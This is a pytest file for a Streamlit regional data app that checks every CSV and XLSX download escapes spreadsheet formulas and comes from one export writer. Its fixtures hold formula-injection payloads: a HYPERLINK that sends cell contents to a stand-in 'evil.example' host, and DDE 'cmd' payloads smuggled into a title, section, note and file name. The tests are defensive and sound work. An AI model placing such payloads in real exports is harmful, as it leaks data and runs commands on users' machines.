"""Every download of every page, scanned: no cell a spreadsheet would run as a formula, even when
the database holds hostile text (written straight into it, as an older version might have let
through). The files are captured from Streamlit's own media storage as a browser would fetch them,
CSV and XLSX alike. A scan of the source finds any download, or any CSV/XLSX writer, that does not
go through regional.exports (the one writer)."""
from __future__ import annotations

import ast
import os
from pathlib import Path

import pytest
from sqlalchemy import update
from sqlmodel import Session

from regional import auth, db, exports, models, returns
from tests.conftest import PROJECT_DIR

PAGES = ["overview.py", *sorted(f"pages/{p.name}" for p in (PROJECT_DIR / "pages").glob("*.py"))]
HOSTILE = {"title": '=HYPERLINK("http://evil.example/?leak="&A2&B2,"Source document (click)")',
           "section": "+cmd|' /C calc'!A0", "note": "@SUM(1+1)*cmd|' /C calc'!A0",
           "file_name": "-2+3+cmd|' /C calc'!A0.csv"}
ADMIN = "downloads-admin@example.org"
#: The pages whose downloads show the hostile return's text (so their scan could have failed).
SHOWS_THE_RETURN = ("overview.py", "pages/6_Scorecard.py", "pages/8_Data.py")


@pytest.fixture(scope="module")
def hostile_database(tmp_path_factory):
    """A database of its own (the pages read DATABASE_URL), holding a return with hostile text and a
    regional admin (who sees every download, the audit log's too)."""
    import streamlit as st

    from tests import hostile

    url = f"sqlite:///{tmp_path_factory.mktemp('downloads') / 'd.sqlite'}"
    previous = os.environ["DATABASE_URL"]
    os.environ["DATABASE_URL"] = url
    st.cache_resource.clear()
    st.cache_data.clear()
    engine = db.get_engine(url)
    db.load_default(engine)
    folder = tmp_path_factory.mktemp("ret")
    rows = [{**hostile.GOOD["council_return"], "council": "BCP", "indicator": "cic_rate_per_10k",
             "period": "2026-06-30", "value": "88", "document": "Hostile document"}]
    path = folder / "bcp_return.csv"
    path.write_bytes(hostile.rows_csv(rows))
    returns.load_council_return(path, engine, display_name=HOSTILE["file_name"])
    with Session(engine) as session, session.begin():
        source = models.Source.id.like("council-%hostile-document%")
        session.execute(update(models.Source).where(source).values(title=HOSTILE["title"]))
        session.execute(update(models.Observation).where(models.Observation.source_id.like("council-%hostile-document%"))
                        .values(section=HOSTILE["section"], note=HOSTILE["note"]))
    auth.add_user(engine, ADMIN, "admin")
    yield engine
    os.environ["DATABASE_URL"] = previous
    st.cache_resource.clear()
    st.cache_data.clear()


@pytest.fixture
def captured(monkeypatch):
    """Every file a page hands to Streamlit for download: {file id: bytes}."""
    from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage

    files: dict[str, bytes] = {}
    original = MemoryMediaFileStorage.load_and_get_id

    def load_and_get_id(self, path_or_data, mimetype, kind, filename=None):
        file_id = original(self, path_or_data, mimetype, kind, filename)
        files[file_id] = path_or_data if isinstance(path_or_data, bytes) else open(path_or_data, "rb").read()
        return file_id

    monkeypatch.setattr(MemoryMediaFileStorage, "load_and_get_id", load_and_get_id)
    return files


def _downloads(at, files: dict[str, bytes]) -> dict[str, bytes]:
    out = {}
    for button in at.get("download_button"):
        url = button.proto.url
        if not url:  # a disabled button (nothing to download)
            continue
        match = [data for file_id, data in files.items() if file_id in url]
        assert match, f"download {button.label!r} not captured"
        out[f"{button.label}#{len(out)}"] = match[0]
    return out


def _xlsx_texts(data: bytes) -> str:
    from io import BytesIO

    from openpyxl import load_workbook

    book = load_workbook(BytesIO(data), read_only=True)
    return "\n".join(str(v) for ws in book.worksheets for row in ws.iter_rows(values_only=True) for v in row
                     if isinstance(v, str))


def _kind(data: bytes) -> str:
    if data[:4] == b"PK\x03\x04":
        return "xlsx"
    if data[:5] == b"%PDF-" or data.lstrip()[:1] in (b"<", b"#"):  # the pack (PDF, HTML), a Markdown guide
        return "document"
    return "csv"


@pytest.mark.parametrize("page", PAGES)
def test_every_download_is_formula_safe(hostile_database, captured, page):
    """Each page run through the app (its real navigation and sidebar) as a signed-in regional admin."""
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(PROJECT_DIR / "app.py"), default_timeout=120)
    at.session_state["_signed_in_email"] = ADMIN
    at.session_state["group"], at.session_state["council"] = "rcc:south-west", "E06000058"  # BCP sent the return
    at.run()
    assert next(s for s in at.sidebar.selectbox if s.label == "Council of interest").value == "E06000058"
    if page != "overview.py":
        at.switch_page(page).run()
    assert not at.exception, [e.value for e in at.exception]
    if page.endswith("Placement_distance.py"):  # the one-council and UASC-only views have downloads of their own
        at.multiselect(key="dist_councils").set_value(["E06000058"]).run()
        at.radio(key="dist_uasc").set_value("UASC only").run()
        assert not at.exception
    downloads = _downloads(at, captured)
    kinds = {name: _kind(data) for name, data in downloads.items()}
    for name, data in downloads.items():
        readable = _xlsx_texts(data) if kinds[name] == "xlsx" else data.decode("utf-8", errors="replace")
        assert "birth_month" not in readable, name  # months of birth are only ever aggregated into age bands
        if kinds[name] == "csv":
            assert exports.formula_cells(data) == [], name
        elif kinds[name] == "xlsx":
            assert exports.xlsx_formula_cells(data) == [], name
    if page in SHOWS_THE_RETURN:  # the hostile text is there, neutralised, so the scan could have failed
        assert any(k in ("csv", "xlsx") for k in kinds.values()), f"{page} offers no table download"
        text = b"".join(d for n, d in downloads.items() if kinds[n] == "csv").decode("utf-8-sig", errors="replace")
        cells = "".join(_xlsx_texts(d) for n, d in downloads.items() if kinds[n] == "xlsx")
        assert "'=HYPERLINK" in text + cells or "'-2+3+cmd" in text + cells, page


# --- the source: one writer -------------------------------------------------------------------
APP_FILES = sorted({*PROJECT_DIR.glob("*.py"), *(PROJECT_DIR / "pages").glob("*.py"),
                    *(PROJECT_DIR / "regional").rglob("*.py")} - {PROJECT_DIR / "regional" / "exports.py"})
#: Writers that are not downloads, each with why: build-data writing the project's own extracts
#: (data/extract, data/synthetic), and the command line printing a table to the terminal.
NOT_DOWNLOADS = {
    "regional/build.py": "build-data writes data/extract",
    "regional/synthetic.py": "writes the synthetic SSDA903 extracts in data/synthetic",
    "regional/importers/child_population.py": "build-data writes its extract",
    "regional/importers/new_placements.py": "build-data writes its extract",
    "regional/importers/ofsted.py": "build-data writes its extracts",
    "regional/importers/ssda903.py": "build-data writes the outcode extracts",
    "regional/cli.py": "prints tables to the terminal (to_csv(sys.stdout))",
}
WRITERS = {"to_csv", "to_excel", "ExcelWriter", "Workbook", "writer", "DictWriter"}
#: A download that is not a table: the meeting pack (HTML, PDF) and the templates' Markdown guides.
DOCUMENT_TYPES = {"text/html", "application/pdf", "text/markdown"}


def _calls(path: Path):
    for node in ast.walk(ast.parse(path.read_text(), filename=str(path))):
        if isinstance(node, ast.Call):
            func = node.func
            yield node, func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")


def _own_names(path: Path) -> set[str]:
    """Functions the file defines and the project modules it imports (``scorecard.to_csv`` is the
    project's own function, which writes through exports; ``frame.to_csv`` is pandas')."""
    names = set()
    for node in ast.walk(ast.parse(path.read_text())):
        if isinstance(node, ast.FunctionDef):
            names.add(node.name)
        elif isinstance(node, ast.ImportFrom) and (node.module or "").startswith("regional"):
            names.update(a.asname or a.name for a in node.names)
    return names


def _writer_calls(path: Path) -> list[str]:
    found = []
    own = _own_names(path)
    for node, name in _calls(path):
        func = node.func
        if (isinstance(func, ast.Name) and func.id in own) or \
                (isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name) and func.value.id in own):
            continue
        if name in ("writer", "DictWriter"):
            owner = node.func.value if isinstance(node.func, ast.Attribute) else None
            if not (isinstance(owner, ast.Name) and owner.id == "csv"):
                continue
        if name in WRITERS or "xlsxwriter" in ast.unparse(node.func):
            found.append(f"{path.relative_to(PROJECT_DIR)}:{node.lineno}: {ast.unparse(node)[:80]}")
    return found


def test_no_csv_or_xlsx_is_written_outside_regional_exports():
    found = [line for path in APP_FILES if str(path.relative_to(PROJECT_DIR)) not in NOT_DOWNLOADS
             for line in _writer_calls(path)]
    assert found == []


def _raw_downloads(files: list[Path]) -> tuple[int, list[str]]:
    """(download buttons seen, those fed by something other than regional.exports)."""
    writers = {"csv_bytes", "xlsx_bytes", "template_bytes", "to_bytes"}
    bad, seen = [], 0
    for path in files:
        for node, name in _calls(path):
            if name != "download_button":
                continue
            seen += 1
            args = {k.arg: k.value for k in node.keywords}
            data = node.args[1] if len(node.args) > 1 else args.get("data")
            mime = node.args[3] if len(node.args) > 3 else args.get("mime")
            if isinstance(mime, ast.Constant) and mime.value in DOCUMENT_TYPES:
                continue
            if isinstance(data, ast.Call):
                called = data.func.attr if isinstance(data.func, ast.Attribute) else getattr(data.func, "id", "")
                if called in writers:
                    continue
            elif isinstance(data, (ast.Subscript, ast.Name)):
                continue  # made elsewhere: the writer scan above and the page scan cover it
            bad.append(f"{path.relative_to(PROJECT_DIR)}:{node.lineno}: {ast.unparse(data)[:80]}")
    return seen, bad


def test_every_download_button_is_fed_by_regional_exports():
    """A table offered for download comes from an exports function (csv_bytes, xlsx_bytes,
    template_bytes), or from a name a view made with one (the Scorecard's files); a file's raw
    bytes or an encoded string is allowed only for a document (HTML, PDF, Markdown)."""
    seen, bad = _raw_downloads(APP_FILES)
    assert seen >= 10 and bad == []


def test_the_scans_would_find_a_writer_and_a_raw_download(tmp_path, monkeypatch):
    """The two scans above can fail: a page that writes its own CSV is found by both."""
    page = tmp_path / "page.py"
    page.write_text("import streamlit as st\nst.download_button('CSV', frame.to_csv().encode(), 'x.csv', 'text/csv')\n"
                    "st.download_button('XLSX', open('x.xlsx', 'rb').read(), 'x.xlsx')\n")
    monkeypatch.setattr("tests.test_downloads_safe.PROJECT_DIR", tmp_path)
    assert len(_writer_calls(page)) == 1
    assert _raw_downloads([page]) == (2, ["page.py:2: frame.to_csv().encode()",
                                          "page.py:3: open('x.xlsx', 'rb').read()"])


def test_the_shipped_templates_hold_no_formula():
    for kind in returns.REGISTRY.values():
        if kind.template is not None and kind.template.exists():
            assert exports.template_bytes(kind.template) == kind.template.read_bytes()


def test_a_template_with_a_formula_is_not_offered(tmp_path):
    bad = tmp_path / "bad.csv"
    bad.write_text('council,document\nTorbay,"=HYPERLINK(""http://x"")"\n')
    with pytest.raises(ValueError, match="formulas"):
        exports.template_bytes(bad)
